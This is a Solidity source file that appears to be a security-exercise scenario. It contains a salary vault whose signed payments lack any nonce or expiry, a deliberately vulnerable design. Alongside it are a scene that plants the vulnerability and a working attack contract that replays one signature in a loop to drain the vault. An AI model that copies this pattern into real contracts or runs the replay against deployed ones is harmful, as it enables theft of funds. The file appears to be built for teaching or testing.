// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Pays on a signature that says nothing of when, nor how often.
contract SalaryVault {
    IERC20 public immutable asset;
    address public immutable treasurer;

    event Paid(address indexed to, uint256 amount);

    constructor(IERC20 asset_, address treasurer_) {
        (asset, treasurer) = (asset_, treasurer_);
    }

    function digest(address to, uint256 amount) public view returns (bytes32) {
        return keccak256(abi.encode(address(this), to, amount));
    }

    function pay(address to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(digest(to, amount), v, r, s) == treasurer, "signature");
        asset.transfer(to, amount);
        emit Paid(to, amount);
    }

    function fund(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
    }
}

contract SignatureReplayScene is Scene {
    Token public usd;
    SalaryVault public vault;
    uint8 public v;
    bytes32 public r;
    bytes32 public s;
    uint256 public constant SALARY = 30_000e18;

    constructor(Bank b, address t, address s_) payable Scene(b, t, s_) {
        usd = _usd();
        vault = new SalaryVault(IERC20(address(usd)), signer);
        usd.mint(address(vault), 1_800_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
        // The thief is on the payroll.
        digest = vault.digest(t, SALARY);
    }

    function signed(uint8 v_, bytes32 r_, bytes32 s_) external override {
        (v, r, s) = (v_, r_, s_);
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(vault));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        return (address(vault), 0, abi.encodeCall(SalaryVault.fund, (_amount(dice, 10e18, 900e18))));
    }
}

contract SignatureReplayAttack is Attack {
    SalaryVault private immutable vault;
    address private immutable payee;
    uint8 private immutable v;
    bytes32 private immutable r;
    bytes32 private immutable s;
    uint256 private immutable amount;

    constructor(SignatureReplayScene scene) Attack(scene) {
        (vault, payee, v, r, s) = (scene.vault(), scene.thief(), scene.v(), scene.r(), scene.s());
        amount = scene.SALARY();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        for (uint256 i; i < 54 / count; i++) vault.pay(payee, amount, v, r, s);
    }
}
